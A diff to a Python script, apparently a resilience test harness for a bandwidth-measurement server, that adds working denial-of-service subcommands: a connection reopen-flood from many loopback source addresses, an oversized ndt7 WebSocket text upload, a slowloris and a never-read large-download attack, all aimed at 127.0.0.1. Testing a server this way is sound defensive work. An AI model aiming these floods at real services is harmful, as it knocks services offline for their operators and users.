@@ -15,6 +15,12 @@ and against iperf3 3.21's `iperf3 -s`.
   hostile.py stall-flood --port P --source 127.0.0.3 --count 1000 --hold S [--ndt7]
   hostile.py random-sessions --port P --count 10000
   hostile.py worst-request --port P [--streams N --length BYTES]
+  hostile.py reopen-flood --port P --net 127.0.2 --addresses 64 --per 8 --hold S [--ndt7]
+                                  (silent greetings from a whole /26, reopened as the server closes them)
+  hostile.py ndt7-text --port P [--size 16M] [--time 8]   (an upload of huge text messages)
+  hostile.py slowloris --port P --sources A,B --count N [--every 1.5] [--hold 45]
+  hostile.py rpm-large --port P --count N [--read] [--hold S] [--sources A,B]
+                                  (GET /large, read or never read)
 """
 
 import argparse
@@ -569,6 +575,202 @@ def worst_request(a):
     return {"attack": "worst-request", "refused": False, "streams": a.streams}
 
 
+def reopen_flood(a):
+    """--addresses source addresses of --net (127.0.2.1, .2, ...), each keeping --per connections
+    that send a complete control greeting (or, with --ndt7, half a request head) and then nothing;
+    every connection the server closes is opened again at once, until --hold seconds pass."""
+    greeting = b"GET /ndt/v7/download HTTP/1.1\r\nHost: x\r\n" if a.ndt7 else control_preamble()
+    sources = ["%s.%d" % (a.net, i + 1) for i in range(a.addresses)]
+    held, opened, refused = {}, 0, 0
+
+    def open_one(src):
+        nonlocal opened, refused
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.bind((src, 0))
+            s.setblocking(False)
+            try:
+                s.connect(("127.0.0.1", a.port))
+            except BlockingIOError:
+                pass
+            held[s] = src
+            opened += 1
+        except OSError:
+            refused += 1
+
+    for src in sources:
+        for _ in range(a.per):
+            open_one(src)
+    print(json.dumps({"holding": len(held)}), flush=True)
+    pending = {s: True for s in held}
+    end = time.monotonic() + a.hold
+    closed = 0
+    while time.monotonic() < end:
+        socks = list(held)
+        w = [s for s in socks if pending.get(s)]
+        r, wr, _ = select.select(socks, w, [], 0.05)
+        for s in wr:
+            try:
+                s.send(greeting)
+            except OSError:
+                pass
+            pending[s] = False
+        for s in r:
+            try:
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            if not data:
+                src = held.pop(s)
+                pending.pop(s, None)
+                s.close()
+                closed += 1
+                open_one(src)
+                for n in held:
+                    pending.setdefault(n, True)
+    for s in held:
+        s.close()
+    return {"attack": "reopen-flood", "addresses": a.addresses, "opened": opened,
+            "closed_by_server": closed, "refused_at_connect": refused}
+
+
+def ws_handshake(s, path):
+    s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+               "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+               "Sec-WebSocket-Protocol: net.measurementlab.ndt.v7\r\n\r\n" % path).encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        c = s.recv(4096)
+        if not c:
+            break
+        head += c
+    return head.split(b"\r\n")[0].decode(errors="replace")
+
+
+def masked_frame(opcode, payload, fin=True):
+    """A client frame, masked with a zero key (the XOR changes nothing, the mask bit is set)."""
+    n = len(payload)
+    b0 = (0x80 if fin else 0) | opcode
+    if n < 126:
+        head = struct.pack(">BB", b0, 0x80 | n)
+    elif n < 65536:
+        head = struct.pack(">BBH", b0, 0x80 | 126, n)
+    else:
+        head = struct.pack(">BBQ", b0, 0x80 | 127, n)
+    return head + b"\0\0\0\0" + payload
+
+
+def ndt7_text(a):
+    """An ndt7 upload of --size text messages, each valid Measurement JSON, one frame each, sent
+    as fast as the server takes them for --time seconds (each frame written whole, so the count is
+    of bytes the server's socket took)."""
+    size = int(rate_bps(a.size))
+    body = b'{"Origin":"' + b"a" * max(0, size - 14) + b'"}'
+    msg = masked_frame(1, body)
+    s = connect(a.port, timeout=5.0)
+    status = ws_handshake(s, "/ndt/v7/upload")
+    print(json.dumps({"status": status}), flush=True)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+    sent, end = 0, time.monotonic() + a.time
+    closed = False
+    s.settimeout(0.5)
+    while time.monotonic() < end:
+        try:
+            sent += s.send(msg)
+        except socket.timeout:
+            continue
+        except OSError:
+            closed = True
+            break
+    s.close()
+    return {"attack": "ndt7-text", "status": status, "sent_bytes": sent, "closed_by_server": closed}
+
+
+def slowloris(a):
+    """--count connections from --sources (round robin), each an unfinished HTTP request head, then
+    one byte every --every seconds; the time the server took to close each."""
+    sources = a.sources.split(",")
+    opened, closed_at, held = 0, [], {}
+    start = time.monotonic()
+    for i in range(a.count):
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.bind((sources[i % len(sources)], 0))
+            s.settimeout(2.0)
+            s.connect(("127.0.0.1", a.port))
+            s.sendall(b"GET /large HTTP/1.1\r\nHost: x\r\n")
+            held[s] = time.monotonic()
+            opened += 1
+        except OSError:
+            pass
+    print(json.dumps({"holding": len(held)}), flush=True)
+    end = start + a.hold
+    next_byte = time.monotonic() + a.every
+    poller, by_fd = select.poll(), {s.fileno(): s for s in held}
+    for s in held:
+        poller.register(s, select.POLLIN)
+    while held and time.monotonic() < end:
+        r = [by_fd[fd] for fd, _ in poller.poll(100) if by_fd.get(fd) in held]
+        for s in r:
+            poller.unregister(s)
+            try:
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            if not data:
+                closed_at.append(time.monotonic() - held.pop(s))
+                s.close()
+        if time.monotonic() >= next_byte:
+            for s in list(held):
+                try:
+                    s.send(b"X")
+                except OSError:
+                    closed_at.append(time.monotonic() - held.pop(s))
+                    poller.unregister(s)
+                    s.close()
+            next_byte += a.every
+    still = len(held)
+    for s in held:
+        s.close()
+    closed_at.sort()
+    return {"attack": "slowloris", "opened": opened, "closed_by_server": len(closed_at),
+            "still_open_at_end": still,
+            "max_close_s": round(closed_at[-1], 2) if closed_at else None,
+            "median_close_s": round(closed_at[len(closed_at) // 2], 2) if closed_at else None}
+
+
+def rpm_large(a):
+    """--count HTTP/1.1 GET /large: with --read, read each to its end (bytes counted); without,
+    never read a byte after the request, for --hold seconds."""
+    socks, sources = [], a.sources.split(",")
+    for i in range(a.count):
+        try:
+            s = connect(a.port, source=sources[i % len(sources)], timeout=2.0)
+            s.sendall(b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
+            socks.append(s)
+        except OSError:
+            pass
+    print(json.dumps({"holding": len(socks)}), flush=True)
+    got, end = 0, time.monotonic() + a.hold
+    if a.read:
+        open_ = list(socks)
+        while open_ and time.monotonic() < end:
+            r, _, _ = select.select(open_, [], [], 0.2)
+            for s in r:
+                try:
+                    d = s.recv(1 << 20)
+                except OSError:
+                    d = b""
+                if not d:
+                    open_.remove(s)
+                got += len(d)
+    else:
+        time.sleep(a.hold)
+    for s in socks:
+        s.close()
+    return {"attack": "rpm-large", "connections": len(socks), "received_bytes": got}
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -607,10 +809,34 @@ def main():
     w.add_argument("--length", type=int, default=64 << 20)
     w.add_argument("--time", type=float, default=3.0)
     w.add_argument("--threads", type=int, default=0)
+    f = sub.add_parser("reopen-flood")
+    f.add_argument("--port", type=int, required=True)
+    f.add_argument("--net", default="127.0.2")
+    f.add_argument("--addresses", type=int, default=64)
+    f.add_argument("--per", type=int, default=8)
+    f.add_argument("--hold", type=float, default=10.0)
+    f.add_argument("--ndt7", action="store_true")
+    t = sub.add_parser("ndt7-text")
+    t.add_argument("--port", type=int, required=True)
+    t.add_argument("--size", default="16M")
+    t.add_argument("--time", type=float, default=8.0)
+    sl = sub.add_parser("slowloris")
+    sl.add_argument("--port", type=int, required=True)
+    sl.add_argument("--sources", default="127.0.4.1,127.0.4.2,127.0.4.3,127.0.4.4")
+    sl.add_argument("--count", type=int, default=1024)
+    sl.add_argument("--every", type=float, default=1.5)
+    sl.add_argument("--hold", type=float, default=45.0)
+    rl = sub.add_parser("rpm-large")
+    rl.add_argument("--port", type=int, required=True)
+    rl.add_argument("--count", type=int, default=3)
+    rl.add_argument("--read", action="store_true")
+    rl.add_argument("--sources", default="127.0.0.1")
+    rl.add_argument("--hold", type=float, default=10.0)
     a = p.parse_args()
     fn = {"udp-spoof": udp_spoof, "udp-nat": udp_nat, "downgrade-proxy": downgrade_proxy, "inject-proxy": inject_proxy,
           "stall-flood": stall_flood, "random-sessions": random_sessions,
-          "worst-request": worst_request, "quic-stall": quic_stall}[a.cmd]
+          "worst-request": worst_request, "quic-stall": quic_stall, "reopen-flood": reopen_flood,
+          "ndt7-text": ndt7_text, "slowloris": slowloris, "rpm-large": rpm_large}[a.cmd]
     print(json.dumps(fn(a)), flush=True)
 
 
